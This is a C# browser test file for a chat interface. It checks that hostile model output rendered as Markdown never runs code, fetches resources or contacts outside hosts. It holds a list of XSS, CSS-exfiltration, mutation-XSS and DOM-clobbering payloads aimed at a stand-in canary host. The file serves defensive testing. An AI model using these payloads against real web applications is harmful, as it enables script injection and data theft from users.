using Microsoft.Playwright;
using Tacit.Browser.Support;
using static Tacit.Browser.Support.ChatScreen;

namespace Tacit.Browser;

/// <summary>
/// A model may say anything, and what it says must not tell anybody anything: nothing in an answer runs, is fetched, is looked up or styles the page. The browser's network log,
/// which has every connection and every name that the browser tried, says so as well as a server that waits to be asked.
/// </summary>
public sealed class MaliciousMarkdownTests(Chromium chromium) : BrowserTest(chromium)
{
    /// <summary>What a hostile model might write; <c>{canary}</c> is a server that listens.</summary>
    private static readonly string[] s_hostile =
    [
        "<script src=\"{canary}/script\"></script><script>fetch('{canary}/inline')</script>",
        "![beacon]({canary}/markdown-image?leak=secret) ![ref][r]\n\n[r]: {canary}/reference-image",
        "<img src=\"{canary}/img\" srcset=\"{canary}/srcset 2x\" onerror=\"fetch('{canary}/onerror')\"><img src=x onerror=fetch('{canary}/onerror2')>",
        "<picture><source srcset=\"{canary}/source\"><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"></picture>",
        "<style>@import url('{canary}/import'); body { background: url('{canary}/background') } input[value^=a] { background: url('{canary}/exfiltrate') } @font-face { font-family: x; src: url('{canary}/font') } * { font-family: x; display: none }</style>",
        "<link rel=stylesheet href=\"{canary}/stylesheet\"><link rel=prefetch href=\"{canary}/prefetch\"><link rel=preload as=image href=\"{canary}/preload\"><link rel=dns-prefetch href=\"//dns-prefetch.canary.test\"><link rel=preconnect href=\"{canary}/preconnect\"><link rel=modulepreload href=\"{canary}/modulepreload\"><link rel=icon href=\"{canary}/icon\"><link rel=prerender href=\"{canary}/prerender\">",
        "<div style=\"background:url('{canary}/inline-style');position:fixed;inset:0;z-index:99999\">over everything</div>",
        "<svg onload=\"fetch('{canary}/svg-onload')\"><image href=\"{canary}/svg-image\"/><use href=\"{canary}/svg-use#x\"/><style>@import '{canary}/svg-import'</style><script href=\"{canary}/svg-script\"/><foreignObject><img src=\"{canary}/foreign\"></foreignObject><a href=\"javascript:fetch('{canary}/svg-a')\"><text>click svg</text></a><animate attributeName=href values=\"{canary}/animate\"/></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=fetch('{canary}/mutation')&gt;\"></mglyph></table></mtext></math><math href=\"javascript:fetch('{canary}/math')\">click math</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=fetch('{canary}/noscript')>\"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=fetch('{canary}/nested')>",
        "<form id=\"main\" action=\"{canary}/form\"><input name=attributes><input name=innerHTML value=clobbered><button formaction=\"{canary}/formaction\">press me</button></form><img name=body src=x><a id=location href=\"{canary}/clobber\"></a><form name=fetch></form>",
        "<meta http-equiv=refresh content=\"0;url={canary}/refresh\"><base href=\"{canary}/base/\">",
        "<iframe src=\"{canary}/iframe\"></iframe><iframe srcdoc=\"<img src='{canary}/srcdoc'>\"></iframe><object data=\"{canary}/object\"></object><embed src=\"{canary}/embed\"><frameset onload=fetch('{canary}/frameset')>",
        "<video src=\"{canary}/video\" poster=\"{canary}/poster\" autoplay></video><audio src=\"{canary}/audio\" autoplay></audio><video><track src=\"{canary}/track\" default></video>",
        "<details open ontoggle=\"fetch('{canary}/toggle')\"><summary>s</summary></details><input autofocus onfocus=\"fetch('{canary}/focus')\"><body onload=\"fetch('{canary}/body')\" background=\"{canary}/body-background\"><table background=\"{canary}/table-background\"><tr><td background=\"{canary}/td\">t</td></tr></table>",
        "[script link](javascript:fetch('{canary}/js-link')) [data link](data:text/html,<script>fetch('{canary}/data-link')</script>) [vb](vbscript:x) <a href=\"java&#10;script:fetch('{canary}/split')\">split</a> <a href=\"&#x6A;avascript:fetch('{canary}/entity')\">entity</a> <javascript:fetch('{canary}/autolink')>",
        "[ping me]({canary}/plain-link) <a href=\"{canary}/ping-link\" ping=\"{canary}/ping\" target=_blank>ping</a> <a href=\"{canary}/download\" download>download</a> {canary}/bare-address",
        "$\\includegraphics{ {canary}/tex-image}$ $\\href{javascript:fetch('{canary}/tex')}{x}$ $\\htmlStyle{background:url({canary}/tex-style)}{x}$ $\\url{ {canary}/tex-url}$ $$\\def\\x{\\x\\x}\\x$$",
        "```html\n<img src=\"{canary}/in-code\"><script>fetch('{canary}/in-code-script')</script>\n```\n`<img src={canary}/in-inline-code>`\n\n```mermaid\ngraph TD; A[<img src={canary}/mermaid>]\n```",
        "<template><img src=\"{canary}/template\"></template><xmp><img src=\"{canary}/xmp\"></xmp><plaintext><img src=\"{canary}/plaintext\">",
        "<a href=\"x\" style=\"x:expression(fetch('{canary}/expression'))\">x</a><div data-bind=\"x\" class=\"dialog is-open\" id=\"composer\">imposter</div><textarea id=composer>imposter</textarea>",
    ];

    [Fact]
    public async Task Nothing_that_a_model_says_runs_or_asks_anybody_while_it_streams_or_when_it_is_read_again()
    {
        TestSystem system = Keep(await TestSystem.StartAsync(tokens: 50));
        await using Site canary = await Site.StartAsync();
        string log = Path.GetTempFileName();
        await using IBrowser browser = await Chromium.LaunchAsync(NetLog.SwitchesFor(log));
        Visit visit = await VisitAsync(system, browser: browser);
        var chat = new ChatScreen(visit.Page);
        for (int i = 0; i < s_hostile.Length; i++)
        {
            system.Model.Prepare($"Number {i}", s_hostile[i].Replace("{canary}", canary.At("canary.test"), StringComparison.Ordinal) + $"\n\nThat was {i}.");
        }

        // All in one conversation: what clobbers stays.
        for (int i = 0; i < s_hostile.Length; i++)
        {
            await chat.AskAsync($"Number {i}");
            await Expect(chat.Answers).ToHaveCountAsync(i + 1);
            await Expect(chat.Stop).ToBeHiddenAsync();
        }

        await visit.Page.ReloadAsync();
        await Expect(chat.Answers).ToHaveCountAsync(s_hostile.Length);
        string harm = await visit.Page.EvaluateAsync<string>(
            """
            () => [...document.querySelectorAll('[class*=markdown], article')].flatMap(a => [...a.querySelectorAll(
                'script, style, link, meta, base, iframe, object, embed, form, img[src^=http], video, audio, [style], [onerror], [onload], [onclick], [srcset], [background], [ping], a[href^="javascript:" i], a[href^="data:" i]')])
              .map(e => e.outerHTML.slice(0, 200)).join('\n')
            """);

        Assert.Equal("", harm);
        Assert.Empty(canary.Asked);
        Assert.Empty(visit.Faults);
        await visit.DisposeAsync();
        await browser.CloseAsync();
        Assert.Equal([system.Address.Authority], NetLog.Contacted(log));
        File.Delete(log);
    }

    [Fact]
    public async Task Link_opens_only_after_a_click_and_a_warning_that_shows_where_it_leads()
    {
        TestSystem system = Keep(await TestSystem.StartAsync());
        await using Site canary = await Site.StartAsync();
        Visit visit = await VisitAsync(system);
        var chat = new ChatScreen(visit.Page);
        string target = canary.At("canary.test", "/read?more=1");
        system.Model.Prepare("Where?", $"See [the harmless page]({target}).");
        await chat.AskAsync("Where?", "the harmless page");

        ILocator link = chat.Answer.GetByText("the harmless page");
        await link.HoverAsync();
        await link.ClickAsync();

        ILocator warning = visit.Page.GetByRole(AriaRole.Dialog);
        await Expect(warning).ToContainTextAsync(target);
        Assert.Empty(canary.Asked);
        await visit.Page.Keyboard.PressAsync("Escape");
        await Expect(warning).ToBeHiddenAsync();
        Assert.Empty(canary.Asked);
        Assert.Empty(visit.Faults);
    }
}
